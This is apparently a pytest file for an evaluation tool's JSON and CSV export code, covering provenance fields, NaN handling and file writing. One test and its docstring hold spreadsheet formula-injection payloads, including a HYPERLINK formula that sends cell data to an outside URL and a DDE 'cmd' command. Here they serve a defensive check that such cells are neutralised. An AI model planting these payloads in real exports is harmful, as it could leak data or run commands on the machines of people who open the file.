"""Exports: complete provenance in JSON, one safe line per prompt and model in CSV."""

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest

from stentor.errors import OptionError
from stentor.evaluation_store import (
    Evaluation,
    EvaluationSettings,
    ModelUsed,
    Result,
    append_result,
    create_evaluation,
)
from stentor.exports import export_csv, export_json, write_export

RESULT = Result(
    prompt_id="science-01",
    category="science",
    prompt="Light is",
    side=1,
    model="demo-big",
    scorer="fluency",
    text=' a wave,\n"and" more; é😀',
    num_tokens=9,
    mean_log_probability=-2.5,
    score=0.75,
)


@pytest.fixture
def evaluation() -> Evaluation:
    return create_evaluation(
        EvaluationSettings(category="science", seed=7),
        (
            ModelUsed("demo-base", "Demo base", "sha256:aa", 1_000, "fp32", "cpu"),
            ModelUsed("demo-big", "Demo big", "sha256:bb", 2_000, "int8", "cpu"),
        ),
        suite_hash="sha256:1",
        sampling={"science": {"temperature": 0.5, "top_p": 0.9, "max_new_tokens": 80}},
        total=20,
        prompts_at_a_time=1,
        versions={"stentor": "0.1.0"},
        machine={"cores": 2},
    )


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_json_holds_provenance_summaries_and_results(evaluation: Evaluation) -> None:
    values = json.loads(export_json(evaluation, [RESULT]))
    assert values["models"][1]["revision"] == "sha256:bb"
    assert values["sampling"]["science"]["top_p"] == 0.9
    assert (values["settings"]["seed"], values["suite_hash"]) == (7, "sha256:1")
    assert values["versions"] == {"stentor": "0.1.0"}
    assert values["summaries"][0]["mean"] == 0.75
    assert values["results"][0]["text"] == RESULT.text


def test_json_is_standard_json_and_shows_a_nan_as_a_nan(evaluation: Evaluation) -> None:
    """Python writes a bare NaN, which browsers refuse to parse."""
    odd = replace(RESULT, mean_log_probability=float("nan"), tokens_per_second=float("-inf"))

    def refuse(constant: str) -> None:
        raise AssertionError(constant)

    values = json.loads(export_json(evaluation, [odd]), parse_constant=refuse)
    assert values["results"][0]["mean_log_probability"] == "NaN"
    assert values["results"][0]["tokens_per_second"] == "-Infinity"


def test_csv_has_one_line_per_result_with_its_provenance(evaluation: Evaluation) -> None:
    first, second = rows(export_csv(evaluation, [replace(RESULT, side=0), RESULT]))
    assert (first["revision"], second["revision"]) == ("sha256:aa", "sha256:bb")
    assert (first["precision"], second["precision"], second["device"]) == ("fp32", "int8", "cpu")
    assert (second["min_p"], second["top_k"]) == ("", ""), "unknown of older evaluations"
    assert (second["seed"], second["temperature"], second["top_p"]) == ("7", "0.5", "0.9")
    assert second["text"] == RESULT.text
    assert (second["score"], second["mean_log_probability"]) == ("0.75", "-2.5")
    assert second["error"] == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d"])
def test_csv_cells_cannot_become_formulas(evaluation: Evaluation, start: str) -> None:
    """A spreadsheet runs a cell that begins with = + - @ or a tab as a formula.

    Models write what they like: a text such as `=HYPERLINK("http://...")` or `=cmd|' /C calc'!A0`
    would fetch or start something on the machine of the teacher who opens the table. An apostrophe
    in front makes it plain text.
    """
    attack = f'{start}HYPERLINK("http://example.org/?"&A1)'
    (row,) = rows(export_csv(evaluation, [replace(RESULT, text=attack, prompt=attack)]))
    assert row["text"] == row["prompt"] == "'" + attack


def test_numbers_are_left_alone_negative_ones_too(evaluation: Evaluation) -> None:
    (row,) = rows(export_csv(evaluation, [RESULT]))
    assert float(row["mean_log_probability"]) == -2.5


def test_files_are_written_by_suffix(evaluation: Evaluation, tmp_path: Path) -> None:
    append_result(evaluation, RESULT)
    text = write_export(evaluation, tmp_path / "a.JSON").read_text(encoding="utf-8")
    assert json.loads(text)["results"][0]["score"] == 0.75
    content = write_export(evaluation, tmp_path / "a.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")  # without it Excel garbles every accent
    table = content.decode("utf-8-sig")
    assert rows(table)[0]["text"] == RESULT.text
    with pytest.raises(OptionError, match=r"\.json or \.csv; got 'a.txt'"):
        write_export(evaluation, tmp_path / "a.txt")
    with pytest.raises(OptionError, match="cannot be written"):
        write_export(evaluation, tmp_path / "nowhere" / "a.csv")
